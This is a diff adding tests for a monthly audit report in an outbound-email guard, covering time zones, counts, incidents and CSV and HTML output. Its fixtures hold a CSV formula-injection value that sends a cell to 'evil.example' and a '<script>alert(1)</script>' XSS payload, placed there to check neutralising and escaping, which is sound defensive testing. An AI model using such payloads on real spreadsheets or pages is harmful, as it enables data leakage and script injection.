@@ -1,0 +1,165 @@
+import fs from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { SqliteAuditStore } from '../../src/audit/sqlite-audit.js';
+import { type MonthlyReport, monthBounds, monthlyReport, previousMonth } from '../../src/audit/report.js';
+import { renderReportCsv } from '../../src/audit/report-csv.js';
+import { renderReportHtml } from '../../src/audit/report-html.js';
+import { REPORT_TIME, monthEvents } from './report-fixtures.js';
+
+let dir: string;
+let store: SqliteAuditStore;
+let october: MonthlyReport;
+
+beforeAll(async () => {
+  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'outguard-report-'));
+  store = SqliteAuditStore.open(dir);
+  await store.appendMany(monthEvents());
+  october = await monthlyReport(store, '2026-10', { incidentMinutes: 60, now: () => REPORT_TIME });
+});
+afterAll(async () => {
+  await store.close();
+  fs.rmSync(dir, { recursive: true, force: true });
+});
+
+describe('monthlyReport', () => {
+  it('takes the month in Japan time (UTC+9)', () => {
+    expect(monthBounds('2026-10')).toEqual({ since: new Date('2026-09-30T15:00:00.000Z'), until: new Date('2026-10-31T15:00:00.000Z') });
+    expect(monthBounds('2026-12').until).toEqual(new Date('2026-12-31T15:00:00.000Z'));
+    expect(october).toMatchObject({ month: '2026-10', since: '2026-09-30T15:00:00.000Z', until: '2026-10-31T15:00:00.000Z', timeZone: expect.stringContaining('UTC+9') });
+    // the previous month of a moment early on 1 November in Japan (still 31 October in UTC) is October
+    expect(previousMonth(Date.parse('2026-10-31T16:00:00.000Z'))).toBe('2026-10');
+    expect(previousMonth(Date.parse('2026-01-15T00:00:00.000Z'))).toBe('2025-12');
+    for (const bad of ['2026-13', '2026-1', '26-10', '2026-10-01', '']) expect(() => monthBounds(bad)).toThrow(/YYYY-MM/);
+  });
+
+  it('counts events by action, and message decisions by rule, clause and sender domain', () => {
+    expect(october.events).toBe(20);
+    expect(october.messages).toBe(8); // m1, m2, m3, h1–h5: not m0 (September), not the outbox's delivery
+    expect(october.byAction).toEqual([
+      { key: 'held', count: 5 },
+      { key: 'incident-opened', count: 3 },
+      { key: 'incident-reported', count: 3 },
+      { key: 'released', count: 3 },
+      { key: 'delivered', count: 2 },
+      { key: 'discarded', count: 1 },
+      { key: 'encrypted', count: 1 },
+      { key: 'expired', count: 1 },
+      { key: 'rejected', count: 1 },
+    ]);
+    expect(october.byRule).toEqual([
+      { key: 'external-attachment', count: 4 },
+      { key: 'first-time-domain', count: 4 },
+      { key: 'anonymous-recipient', count: 1 },
+      { key: 'lookalike-domain', count: 1 },
+      { key: 'zip-encrypt', count: 1 },
+    ]);
+    expect(october.byClause).toEqual([
+      { key: '遵守事項 第6-1', count: 5 },
+      { key: '遵守事項 第6-2', count: 1 },
+      { key: '遵守事項 第6-3', count: 1 },
+    ]);
+    expect(october.bySenderDomain).toEqual([
+      { key: 'example.co.jp', count: 6 }, // Taro@Example.CO.JP too
+      { key: '<>', count: 1 },
+      { key: '=hyperlink("http://evil.example/?"&a1,"x")', count: 1 },
+    ]);
+  });
+
+  it('counts holds and the median time to release by the month of the release (odd and even counts)', async () => {
+    expect(october.holds).toEqual({ held: 5, released: 3, discarded: 1, expired: 1, releasesMeasured: 3, medianMinutesToRelease: 30 });
+    const november = await monthlyReport(store, '2026-11', { now: () => REPORT_TIME });
+    expect(november.holds).toMatchObject({ held: 1, released: 2, releasesMeasured: 2, medianMinutesToRelease: 40 });
+    const empty = await monthlyReport(store, '2026-08');
+    expect(empty).toMatchObject({ events: 0, messages: 0, byAction: [], incidents: [], holds: { held: 0, released: 0, medianMinutesToRelease: null } });
+  });
+
+  it('lists incidents with the time to report, within 60 minutes or not, and the overdue one', () => {
+    expect(october.incidents).toEqual([
+      { id: 'i0', openedAt: '2026-09-30T14:30:00.000Z', trigger: 'manual', openedBy: 'admin', messageId: 'm0', reportedAt: '2026-09-30T15:10:00.000Z', reportedBy: 'admin', minutesToReport: 40, withinLimit: true, status: 'reported-in-time' },
+      {
+        id: 'i1',
+        openedAt: '2026-10-20T01:00:00.000Z',
+        trigger: 'mistake',
+        openedBy: 'jiro@example.co.jp',
+        messageId: 'h3',
+        subject: '<script>alert(1)</script>',
+        reportedAt: '2026-10-20T01:42:00.000Z',
+        reportedBy: 'outguard (for jiro@example.co.jp)',
+        minutesToReport: 42,
+        withinLimit: true,
+        status: 'reported-in-time',
+      },
+      { id: 'i2', openedAt: '2026-10-25T03:00:00.000Z', trigger: 'rule', openedBy: 'gateway', messageId: 'm3', withinLimit: null, status: 'overdue' },
+      { id: 'i3', openedAt: '2026-10-26T00:00:00.000Z', trigger: 'manual', openedBy: 'admin', reportedAt: '2026-10-26T01:30:00.000Z', reportedBy: 'admin', minutesToReport: 90, withinLimit: false, status: 'reported-late' },
+    ]);
+    // with a longer limit, i3 was in time
+    return monthlyReport(store, '2026-10', { incidentMinutes: 120, now: () => REPORT_TIME }).then((r) => expect(r.incidents.find((i) => i.id === 'i3')).toMatchObject({ withinLimit: true, status: 'reported-in-time' }));
+  });
+
+  it('an unreported incident still inside its limit is open, not overdue', async () => {
+    const r = await monthlyReport(store, '2026-10', { now: () => Date.parse('2026-10-25T03:30:00.000Z') });
+    expect(r.incidents.find((i) => i.id === 'i2')).toMatchObject({ status: 'open', withinLimit: null });
+  });
+});
+
+describe('report CSV', () => {
+  const csv = () => renderReportCsv(october);
+  const rows = () => csv().slice(1).trimEnd().split('\r\n');
+
+  it('is UTF-8 with a BOM and CRLF, Japanese first', () => {
+    const text = csv();
+    expect(text.startsWith('\uFEFF区分 / section,')).toBe(true);
+    expect(text.endsWith('\r\n')).toBe(true);
+    expect(Buffer.from(text, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
+    expect(rows()).toContain('対象期間 / Period,2026-10,,,,,,"2026-10-01 00:00 〜 2026-11-01 00:00（日本時間、UTC+9） / 2026-10-01 00:00 to 2026-11-01 00:00 JST (UTC+9), end exclusive"');
+    expect(rows()).toContain('ルール別件数 / Messages by rule,first-time-domain,4,,,,,');
+    expect(rows()).toContain('条項別件数 / Messages by clause,遵守事項 第6-1,5,,,,,');
+    expect(rows()).toContain('処理別件数 / Events by action,保留 / held,5,,,,,');
+    expect(rows()).toContain('送信前の確認（保留） / Confirmation holds,保留から送信までの時間（中央値、分） / Median minutes from held to released,30,,,,,3 releases measured');
+  });
+
+  it('lists the incidents with their times in Japan time', () => {
+    expect(rows()).toContain(
+      'インシデント（遵守事項 第2） / Incidents (clause 2),i1,期限内に報告 / reported in time,2026-10-20 10:00,2026-10-20 10:42,42,はい / yes,trigger: mistake; opened by: jiro@example.co.jp; reported by: outguard (for jiro@example.co.jp); message: h3; limit: 60 min',
+    );
+    expect(rows().find((r) => r.includes(',i2,'))).toContain(',"未報告・期限超過 / overdue, not reported",2026-10-25 12:00,,,,');
+    expect(rows().find((r) => r.includes(',i3,'))).toContain(',90,いいえ / no,');
+  });
+
+  it('neutralises a cell that would be a formula', () => {
+    const domainRow = rows().find((r) => r.includes('hyperlink'))!;
+    expect(domainRow).toBe(`送信者ドメイン別件数 / Messages by sender domain,"'=hyperlink(""http://evil.example/?""&a1,""x"")",1,,,,,`);
+    for (const row of rows()) for (const cell of row.split(',')) expect(cell).not.toMatch(/^"?[=+\-@]/);
+  });
+});
+
+describe('report HTML', () => {
+  const page = () => renderReportHtml(october);
+
+  it('is a standalone page with the figures, Japanese first, and no external resources', () => {
+    const html = page();
+    expect(html).toMatch(/^<!doctype html>\n<html lang="ja">/);
+    expect(html).toContain('<h1>月次報告 2026-10<span class="en" lang="en">Monthly report 2026-10</span></h1>');
+    expect(html).toContain('<dd id="messages">8</dd>');
+    expect(html).toContain('<td class="n" id="holds-released">3</td>');
+    expect(html).toContain('<td class="n" id="median">30</td>');
+    expect(html).toContain('2026-10-01 00:00 〜 2026-11-01 00:00（日本時間、UTC+9）');
+    expect(html).toMatch(/<tr data-incident="i1">[\s\S]*?<td class="n">42<\/td>[\s\S]*?期限内に報告/);
+    expect(html).toMatch(/<tr data-incident="i2">[\s\S]*?未報告・期限超過/);
+    expect(html).toContain('@page{size:A4');
+    expect(html).not.toMatch(/<(link|script|img)\b|src=|@import|url\(/);
+  });
+
+  it('escapes what senders and users wrote', () => {
+    const html = page();
+    expect(html).not.toContain('<script>alert(1)</script>');
+    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
+    expect(html).toContain('=hyperlink(&quot;http://evil.example/?&quot;&amp;a1,&quot;x&quot;)');
+  });
+
+  it('carries the CSP nonce when it is served from a page', () => {
+    expect(renderReportHtml(october, { nonce: 'abc123' })).toContain('<style nonce="abc123">');
+  });
+});
